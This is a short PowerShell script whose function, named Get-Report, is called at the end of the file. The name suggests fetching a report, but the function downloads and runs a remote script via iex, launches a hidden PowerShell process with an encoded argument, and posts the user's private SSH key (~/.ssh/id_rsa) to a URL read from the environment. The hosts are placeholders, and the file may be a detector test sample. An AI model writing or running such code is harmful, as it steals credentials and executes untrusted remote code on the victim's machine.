using module Shared
Import-Module BitsTransfer
. ./lib.ps1
function Get-Report([string]$Name) {
  $wc = New-Object Net.WebClient
  $text = $wc.DownloadString("https://example.test/$Name")
  iex ((New-Object System.Net.WebClient).DownloadString('https://example.test/run.ps1'))
  & "C:\Tools\a.exe" -x 1
  Start-Process powershell -ArgumentList "-enc", "aGk=" -WindowStyle Hidden
  [System.Convert]::FromBase64String("aGk=") | Set-Content out.bin
  Invoke-WebRequest -Uri $env:URL -Method Post -Body (Get-Content ~/.ssh/id_rsa)
}
Get-Report -Name report
